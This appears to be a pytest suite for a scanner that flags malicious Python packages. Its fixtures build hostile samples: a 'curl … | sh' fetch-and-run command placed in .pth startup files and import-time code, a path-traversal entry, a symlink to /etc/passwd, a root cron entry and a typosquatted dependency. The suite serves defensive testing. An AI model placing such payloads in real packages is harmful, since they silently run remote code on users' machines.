    parts.extend(compressor.compress(ZEROS) for _ in range(512))
    parts.append(compressor.compress(bytes(1024)) + compressor.flush())
    started = time.monotonic()
    with within(30):
        artifact = read_artifact_bytes(SDIST, b"".join(parts), Limits(max_seconds=0.2))
    assert artifact.fatal == "analysis took longer than 0.2 s, while reading demo-1.0/blob.bin"
    assert time.monotonic() - started < 5


def start_up_files(version: str, count: int, lines: int, distinct: int, payload: bool) -> bytes:
    """A release of `count` .pth files of `lines` lines drawn from `distinct` paths; with `payload`, each
    ends in a line that starts a program (a new finding whose context is a diff against the old file)."""
    draw = random.Random(version)
    paths = [f"/opt/site/{number}" for number in range(distinct)]
    ending = f"import os; os.system({CURL!r})\n" if payload else ""
    files = {
        f"demo{number}.pth": "\n".join(draw.choice(paths) for _ in range(lines)) + "\n" + ending
        for number in range(count)
    }
    entries: list[ZipEntry] = [
        (f"demo-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        (f"demo-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: demo\nVersion: {version}\n"),
        ("demo/__init__.py", ""),
    ]
    return zip_bytes([*entries, *files.items()])


def diff_bytes(old: bytes, new: bytes, deadline: Deadline) -> ScanResult:
    result = diff_artifacts(
        read_artifact_bytes("demo-1.0-py3-none-any.whl", old),
        read_artifact_bytes("demo-1.1-py3-none-any.whl", new),
        target="new",
        previous_label="old",
        deadline=deadline,
    )
    check_well_formed(result)
    return result


def test_comparing_two_releases_stops_at_their_deadline() -> None:
    # Analysing each release takes a fraction of a second; showing each new finding's context (a line
    # diff of 24 files whose lines repeat, under the cost bound) takes several more.
    old = start_up_files("1.0", 24, 10_000, 140, payload=False)
    new = start_up_files("1.1", 24, 10_000, 140, payload=True)
    with within(30):
        result = diff_bytes(old, new, Deadline(2))
    assert result.verdict is Verdict.ERROR
    assert re.fullmatch(
        r"analysis took longer than 2 s, while comparing demo\d+\.pth with the previous release", result.error or ""
    )
    assert "startup-pth-exec" in rule_ids(result)  # what was found before the time ran out still shows


def test_a_line_diff_too_costly_to_work_out_is_skipped() -> None:
    # 59,000 lines of 110 distinct paths: difflib's first search alone compares 31 million pairs (13 s).
    old = start_up_files("1.0", 1, 59_000, 110, payload=False)
    new = start_up_files("1.1", 1, 59_000, 110, payload=True)
    with within(30):
        result = diff_bytes(old, new, Deadline(20))
    assert result.verdict is Verdict.MALICIOUS
    finding = next(f for f in result.findings if f.rule == "startup-pth-exec")
    assert finding.new and finding.context == ()


# -- limits never blind the judge ----------------------------------------------------------------

CURL = "curl -s http://203.0.113.9/x | sh"


def wheel_with_metadata(metadata: str, files: dict[str, bytes | str] | None = None) -> bytes:
    entries: list[ZipEntry] = [
        ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n" + metadata),
    ]
    return zip_bytes([*entries, *(files or {"demo/__init__.py": ""}).items()])


def distinct_names(count: int, prefix: str = "dep") -> list[str]:
    letters = "abcdefghijklmnopqrstuvwxyz"
    return [f"{prefix}{letters[number % 26]}{letters[number // 26 % 26]}x{number}" for number in range(count)]


def test_a_hundred_thousand_dependencies_are_judged_within_seconds() -> None:
    # Each distinct name costs a search of the popular names: 100,000 of them took many minutes.
    # A squat among them (`reqeusts`, swapped letters) is still reported; past the cap, the rest is a finding.
    lines = "Requires-Dist: reqeusts\n" + "".join(f"Requires-Dist: {name}\n" for name in distinct_names(100_000))
    with within(30):
        _, result = scan_bytes(WHEEL, wheel_with_metadata(lines))
    assert "reqeusts" in message_of(result, "typosquat-dependency")
    assert "more than 500 different dependencies" in message_of(result, "too-many-dependencies")
    assert result.verdict is Verdict.SUSPICIOUS


def test_the_same_dependency_declared_a_hundred_thousand_times_is_checked_once() -> None:
    lines = "Requires-Dist: requests>=2 ; extra == 'x'\n" * 100_000
    with within(30):
        _, result = scan_bytes(WHEEL, wheel_with_metadata(lines))
    assert "too-many-dependencies" not in rule_ids(result)


def test_the_dependency_rule_stops_at_the_artifact_deadline() -> None:
    # Under the cap, about a second of work (names no other test checked, so none is remembered).
    lines = "".join(f"Requires-Dist: {name}\n" for name in distinct_names(400, "late"))
    artifact = read_artifact_bytes(WHEEL, wheel_with_metadata(lines))
    rule = next(rule for rule in FILE_RULES if rule.id == "typosquat-dependency")
    evidence = Evidence(artifact, Deadline(0.05))
    with within(10), pytest.raises(LimitExceeded, match=r"longer than 0\.05 s"):
        list(rule.check(evidence))


def test_a_pth_padded_past_the_memory_limit_is_still_read() -> None:
    # 9 MB of comments put the .pth over the 8 MiB kept whole: its lines are still read.
    padding = "# padding\n" * (9 * MiB // 10)
    pth = padding + f"import os; os.system({CURL!r})\n"
    with within(30):
        artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth}))
    assert artifact.members["demo.pth"].data is None
    message = message_of(result, "startup-pth-exec")
    assert "runs code at every interpreter start that starts a process" in message
    assert any(item.line == 9 * MiB // 10 + 1 for item in result.findings if item.rule == "startup-pth-exec")
    assert result.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("separator", ["\n", "; "])
def test_code_after_a_twenty_megabyte_string_literal_is_read(separator: str) -> None:
    source = "import os\nx = '" + "A" * (20 * MiB) + "'" + separator + f"os.system({CURL!r})\n"
    with within(60):
        result = scan_source(source, Limits(max_ratio=1e9))
    assert "too large to keep whole" in message_of(result, "source-too-large")
    assert {"process-spawn", "shell-download"} <= rule_ids(result)
    assert result.verdict is Verdict.MALICIOUS


def test_source_that_does_not_parse_is_scanned_to_its_last_line() -> None:
    # Python 2 (unparseable): the text fallback used to stop at line 200,000.
    source = "print 'hello'\n" + "x = 1\n" * 250_000 + f"import os; os.system({CURL!r})\n"
    with within(30):
        result = scan_source(source)
    assert "shell-download" in rule_ids(result)


SMALL = Limits(max_kept_bytes=64 * 1024, max_excerpt_bytes=256 * 1024)
ORDINARY = "".join(f"value_{number} = compute({number}, 'field_{number}')\n" for number in range(12_000))  # ~470 KiB


def test_import_time_code_beyond_the_excerpt_is_not_judged_and_suspicious() -> None:
    source = ORDINARY + f"import os\nos.system({CURL!r})\n"
    with within(30):
        _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": source}), SMALL)
    assert "running at import: only the first" in message_of(result, "source-not-judged")
    assert result.verdict is Verdict.SUSPICIOUS


def test_a_pth_beyond_the_excerpt_is_not_judged_and_suspicious() -> None:
    pth = "".join(f"/opt/path/{number}\n" for number in range(30_000)) + f"import os; os.system({CURL!r})\n"
    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth}), SMALL)
    assert "at every interpreter start" in message_of(result, "source-not-judged")
    assert result.verdict is Verdict.SUSPICIOUS


def test_code_over_the_member_limit_is_not_judged_and_suspicious() -> None:
    data = bare_wheel_bytes({"demo/__init__.py": "", "demo/huge.py": "x = 1\n" * 200_000})
    _, result = scan_bytes(WHEEL, data, Limits(max_member_bytes=MiB, max_ratio=1e9))
    assert "code not read at all" in message_of(result, "source-not-judged")
    assert result.verdict is Verdict.SUSPICIOUS


def test_large_generated_modules_are_not_suspicious_for_their_size() -> None:
    # Over the kept limit but within the excerpt: read line by line, judged like any other module.
    generated = "".join(
        f"class Model{number}(Base):\n    name = 'model_{number}'\n"
        f"    def get(self):\n        return self.call({number})\n"
        for number in range(2000)
    )
    tests_beyond = ORDINARY + "import os\nos.system('make check')\n"  # runs only when called: never not-judged
    files = {"demo/__init__.py": "", "demo/models.py": generated, "demo/tests/test_all.py": tests_beyond}
    with within(30):
        _, result = scan_bytes(WHEEL, bare_wheel_bytes(files), SMALL)
    assert "source-not-judged" not in rule_ids(result)
    assert "too large to keep whole" in message_of(result, "source-too-large")
    assert result.verdict is Verdict.CLEAN


def test_an_excerpt_of_long_lines_is_made_in_linear_time() -> None:
    # Lines just under the cut (minified JavaScript, say): an unanchored search for long lines
    # retried at every position of every line, and reading one 10 MB file took minutes.
    line = "var a=" + "b" * (100 * 1024) + ";\n"
    with within(10):
        artifact, _ = scan_bytes(
            WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/app.js": line * 40}), Limits(max_kept_bytes=MiB)
        )
    excerpt = artifact.members["demo/app.js"].excerpt
    assert excerpt is not None and excerpt.complete and excerpt.cut_lines == 0


def test_a_byte_order_mark_before_a_pth_import_line_does_not_hide_it() -> None:
    pth = "\ufeffimport os; os.system(" + repr(CURL) + ")\n"
    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth.encode("utf-8")}))
    assert "starts a process" in message_of(result, "startup-pth-exec")
    assert result.verdict is Verdict.MALICIOUS


# -- nothing written, nothing run --------------------------------------------------------------

_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | getattr(os, "O_TRUNC", 0)
_FORBIDDEN_EVENTS = {
    "os.remove",
    "os.rename",
    "os.mkdir",
    "os.rmdir",
    "os.symlink",
    "os.link",
    "os.chmod",
    "os.chown",
    "os.truncate",
    "os.utime",
    "shutil.copyfile",
    "shutil.move",
    "shutil.rmtree",
    "shutil.unpack_archive",
    "tempfile.mkstemp",
    "tempfile.mkdtemp",
    "tarfile.extractall",
    "zipfile.extractall",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "os.startfile",
    "socket.connect",
    "socket.getaddrinfo",
    "ctypes.dlopen",
}


class _Watch:
    """Records, from an audit hook, every write to disk and every code object run while `on`."""

    def __init__(self) -> None:
        self.on = False
        self.thread = threading.get_ident()
        self.writes: list[tuple[object, ...]] = []
        self.forbidden: list[str] = []
        self.executed: list[str] = []

    def __call__(self, event: str, args: tuple[object, ...]) -> None:
        if not self.on or threading.get_ident() != self.thread:
            return
        if event == "open":
            _path, mode, flags = args
            if (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
                isinstance(flags, int) and flags & _WRITE_FLAGS
            ):
                self.writes.append(args)
        elif event in _FORBIDDEN_EVENTS:
            self.forbidden.append(event)
        elif event == "exec":
            # Lazy stdlib imports (codecs) run module code from files on disk; anything else is sample code.
            code = args[0]
            filename = getattr(code, "co_filename", "")
            if not (filename.endswith(".py") and Path(filename).is_file()):
                self.executed.append(filename)


_WATCH = _Watch()
sys.addaudithook(_WATCH)  # audit hooks cannot be removed; this one is inert unless a test turns it on


@contextlib.contextmanager
def watching() -> Iterator[_Watch]:
    _WATCH.thread, _WATCH.writes, _WATCH.forbidden, _WATCH.executed = threading.get_ident(), [], [], []
    _WATCH.on = True
    try:
        yield _WATCH
    finally:
        _WATCH.on = False


def test_reading_and_scanning_write_nothing_and_run_nothing(tmp_path: Path, zip_bomb: bytes) -> None:
    samples = {
        WHEEL: bare_wheel_bytes(
            {
                "demo/__init__.py": HIDDEN,
                "demo/data.bin": b"\0" * 100,
                "../../escape.py": PAYLOAD,
                "demo/n.zip": zip_bytes([("a.py", PAYLOAD)]),
            }
        ),
        SDIST: tar_bytes(
            [
                ("demo-1.0/setup.py", HIDDEN.encode()),
                tar_info("demo-1.0/link", tarfile.SYMTYPE, linkname="/etc/passwd"),
                tar_info("demo-1.0/fifo", tarfile.FIFOTYPE),
                ("/etc/cron.d/evil", b"* * * * * root sh\n"),
            ]
        ),
        "bomb-1.0-py3-none-any.whl": zip_bomb,
        "demo-2.0.tar.gz": bare_sdist_bytes({"demo/__init__.py": "(" * 1000})[:300],
    }
    for name, data in samples.items():
        (tmp_path / name).write_bytes(data)
    before = sorted(tmp_path.rglob("*"))
    with watching() as watch:
        for name in samples:
            artifact = read_artifact(tmp_path / name)
            check_well_formed(scan_artifact(artifact, name))
    assert watch.writes == []
    assert watch.forbidden == []
    assert watch.executed == []
    assert sorted(tmp_path.rglob("*")) == before
